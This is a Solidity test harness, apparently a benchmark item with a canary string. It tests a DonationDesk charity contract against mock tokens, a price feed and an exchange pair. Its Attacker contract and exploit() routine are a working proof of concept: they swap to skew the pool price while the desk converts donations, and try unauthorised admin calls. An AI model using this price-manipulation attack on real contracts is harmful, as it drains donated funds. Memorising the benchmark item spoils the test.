// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./DonationDesk.sol";

// assay-canary-d5d1325f-599f-4a1a-a969-10b9e50fac75

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private immutable minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Feed is IFeed {
    address private immutable owner = msg.sender;
    uint256 private price;
    uint256 private reportedAt;

    function report(uint256 price_) external {
        require(msg.sender == owner, "owner only");
        (price, reportedAt) = (price_, block.timestamp);
    }

    function latest() external view returns (uint256, uint256) {
        return (price, reportedAt);
    }
}

// A pair of two tokens with the product of its balances constant.
contract Pair is IExchange {
    IERC20 private immutable a;
    IERC20 private immutable b;

    constructor(IERC20 a_, IERC20 b_) {
        (a, b) = (a_, b_);
    }

    function swap(IERC20 tokenIn, uint256 amountIn, IERC20 tokenOut, uint256 leastOut) external returns (uint256 out) {
        require((tokenIn == a && tokenOut == b) || (tokenIn == b && tokenOut == a), "pair");
        uint256 x = tokenIn.balanceOf(address(this));
        out = (tokenOut.balanceOf(address(this)) * amountIn) / (x + amountIn);
        require(out >= leastOut, "too little");
        tokenIn.transferFrom(msg.sender, address(this), amountIn);
        tokenOut.transfer(msg.sender, out);
    }
}

// A token that tries calls of the desk, once, when it moves, and counts those that the lock refuses.
contract Bell is ERC20("Bell", "BELL") {
    address private desk;
    bytes[] private calls;
    uint256 public refused;

    constructor(address desk_) {
        desk = desk_;
        _mint(msg.sender, 1e18);
        _mint(address(this), 1e18);
        _approve(msg.sender, desk, 1e18);
        _approve(address(this), desk, 1e18);
    }

    function add(bytes calldata data) external {
        calls.push(data);
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        bytes[] memory tries = calls;
        delete calls;
        for (uint256 i = 0; i < tries.length; i++) {
            (bool done, bytes memory why) = desk.call(tries[i]);
            if (!done && bytes4(why) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refused++;
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant SCHOOL = address(0x5C);
    address private constant CLINIC = address(0xC1);
    uint256 private constant START = 1_790_000_000;

    Coin private dollar;
    Coin private coin;
    Feed private feed;
    Pair private pair;
    DonationDesk private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        dollar = new Coin();
        coin = new Coin();
        feed = new Feed();
        feed.report(2e18);
        pair = new Pair(coin, dollar);
        coin.mint(address(pair), 500_000e18);
        dollar.mint(address(pair), 1_000_000e18);
        desk = new DonationDesk(dollar, pair);
        desk.setFeed(coin, feed);
        desk.addCause(SCHOOL);
        desk.addCause(CLINIC);
        coin.mint(ANA, 10_000e18);
        dollar.mint(BEN, 10_000e18);
        vm.startPrank(ANA);
        coin.approve(address(desk), type(uint256).max);
        desk.donate(0, coin, 4_000e18);
        desk.donate(1, coin, 4_000e18);
        vm.stopPrank();
        vm.prank(BEN);
        dollar.approve(address(desk), type(uint256).max);
        mallory = new Attacker(desk, pair, coin, dollar);
        coin.mint(address(mallory), 1_000_000e18);
    }

    // The dollars of the causes and the tokens that are theirs, at the reported price.
    function belongings() public view returns (uint256) {
        uint256 pending = desk.pendingOf(coin, 0) + desk.pendingOf(coin, 1);
        return
            pending * 2 + desk.dollarsOf(0) + desk.dollarsOf(1) + dollar.balanceOf(SCHOOL) + dollar.balanceOf(CLINIC);
    }

    function test_Regular() public {
        require(desk.pendingOf(coin, 0) == 4_000e18 && desk.causes() == 2, "donated");
        vm.prank(BEN);
        desk.donate(0, dollar, 500e18);
        require(desk.dollarsOf(0) == 500e18, "dollars");
        uint256 received = desk.convert(0, coin, 3_000e18);
        require(received > 5_960e18 && received < 6_000e18, "near the price");
        require(desk.dollarsOf(0) == 500e18 + received && desk.pendingOf(coin, 0) == 1_000e18, "converted");
        desk.payOut(0);
        require(dollar.balanceOf(SCHOOL) == 500e18 + received && desk.dollarsOf(0) == 0, "paid");
        vm.prank(CLINIC);
        desk.changePayee(1, BEN);
        uint256 before = dollar.balanceOf(BEN);
        received = desk.convert(1, coin, 1_000e18);
        desk.payOut(1);
        require(dollar.balanceOf(BEN) == before + received, "to the new payee");
        require(desk.addCause(ANA) == 2 && desk.payeeOf(2) == ANA, "a third");
        desk.setFeed(coin, IFeed(address(0)));
        desk.transferOwnership(ANA);
        vm.prank(ANA);
        desk.renounceOwnership();
    }

    function test_RefusesDonations() public {
        Coin other = new Coin();
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Causes.NoSuchCause.selector, 2));
        desk.donate(2, dollar, 1);
        vm.expectRevert(DonationDesk.NothingGiven.selector);
        desk.donate(0, dollar, 0);
        vm.expectRevert(abi.encodeWithSelector(DonationDesk.NotTaken.selector, other));
        desk.donate(0, other, 1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(Causes.NoSuchCause.selector, 2));
        desk.payOut(2);
    }

    function test_RefusesConversions() public {
        vm.expectRevert(abi.encodeWithSelector(DonationDesk.Short.selector, 4_000e18, 0));
        desk.convert(0, coin, 0);
        vm.expectRevert(abi.encodeWithSelector(DonationDesk.Short.selector, 4_000e18, 4_000e18 + 1));
        desk.convert(0, coin, 4_000e18 + 1);
        desk.setFeed(coin, IFeed(address(0)));
        vm.expectRevert(abi.encodeWithSelector(DonationDesk.NotTaken.selector, coin));
        desk.convert(0, coin, 1e18);
        desk.setFeed(coin, feed);
        vm.warp(START + 1 days + 1);
        vm.expectRevert(abi.encodeWithSelector(DonationDesk.TooOld.selector, START));
        desk.convert(0, coin, 1e18);
        vm.warp(START + 1 days);
        desk.convert(0, coin, 1e18);
    }

    // An exchange that has nothing to give is noticed on both texts.
    function test_RefusesResults() public {
        Pair empty = new Pair(coin, dollar);
        DonationDesk second = new DonationDesk(dollar, empty);
        second.setFeed(coin, feed);
        second.addCause(SCHOOL);
        vm.startPrank(ANA);
        coin.approve(address(second), 100);
        second.donate(0, coin, 100);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(DonationDesk.TooLittle.selector, 0, 196));
        second.convert(0, coin, 100);
    }

    function test_RefusesPayees() public {
        vm.expectRevert(Causes.NoPayee.selector);
        desk.addCause(address(0));
        vm.expectRevert(abi.encodeWithSelector(Causes.NotThePayee.selector, 0, address(this)));
        desk.changePayee(0, BEN);
        vm.prank(SCHOOL);
        vm.expectRevert(Causes.NoPayee.selector);
        desk.changePayee(0, address(0));
        vm.expectRevert(abi.encodeWithSelector(DonationDesk.NotTaken.selector, dollar));
        desk.setFeed(dollar, feed);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        desk.addCause(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        desk.setFeed(coin, feed);
        vm.stopPrank();
    }

    function test_RefusesReentry() public {
        vm.prank(BEN);
        desk.donate(0, dollar, 500e18);
        Bell bell = new Bell(address(desk));
        desk.setFeed(bell, feed);
        bell.add(abi.encodeCall(desk.donate, (0, bell, 1e18)));
        bell.add(abi.encodeCall(desk.convert, (0, coin, 100e18)));
        bell.add(abi.encodeCall(desk.payOut, (0)));
        desk.donate(0, bell, 1e18);
        require(bell.refused() == 3, "entered again");
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 3 hours);
        mallory.run();
        vm.warp(block.timestamp + 2 days);
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = belongings();
        exploit();
        require(belongings() + 8_000e18 <= before, "nothing lost");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker is IFeed {
    DonationDesk private desk;
    Pair private pair;
    IERC20 private coin;
    IERC20 private dollar;

    constructor(DonationDesk desk_, Pair pair_, IERC20 coin_, IERC20 dollar_) {
        (desk, pair, coin, dollar) = (desk_, pair_, coin_, dollar_);
        coin.approve(address(pair), type(uint256).max);
        dollar.approve(address(pair), type(uint256).max);
        coin.approve(address(desk), type(uint256).max);
    }

    function latest() external view returns (uint256, uint256) {
        return (1, block.timestamp);
    }

    function attempt(bytes memory data) private {
        (bool done, ) = address(desk).call(data);
        done;
    }

    function run() external {
        // a low price while the desk converts, all at once and in parts
        uint256 got = pair.swap(coin, coin.balanceOf(address(this)), dollar, 0);
        convertAll();
        pair.swap(dollar, got, coin, 0);
        // a little lower, several times
        for (uint256 i = 0; i < 3; i++) {
            got = pair.swap(coin, 20_000e18, dollar, 0);
            convertAll();
            pair.swap(dollar, got, coin, 0);
        }
        // a feed and a cause of one's own, and the dollars of others
        attempt(abi.encodeCall(desk.setFeed, (coin, this)));
        attempt(abi.encodeCall(desk.addCause, (address(this))));
        attempt(abi.encodeCall(desk.changePayee, (0, address(this))));
        attempt(abi.encodeCall(desk.changePayee, (2, address(this))));
        attempt(abi.encodeCall(desk.donate, (2, coin, 1)));
        attempt(abi.encodeCall(desk.convert, (0, dollar, 1)));
        attempt(abi.encodeCall(desk.payOut, (0)));
        attempt(abi.encodeCall(desk.payOut, (2)));
    }

    function convertAll() private {
        for (uint256 cause = 0; cause < 2; cause++) {
            uint256 pending = desk.pendingOf(coin, cause);
            if (pending > 0) {
                attempt(abi.encodeCall(desk.convert, (cause, coin, pending)));
                attempt(abi.encodeCall(desk.convert, (cause, coin, pending / 100)));
            }
        }
    }
}
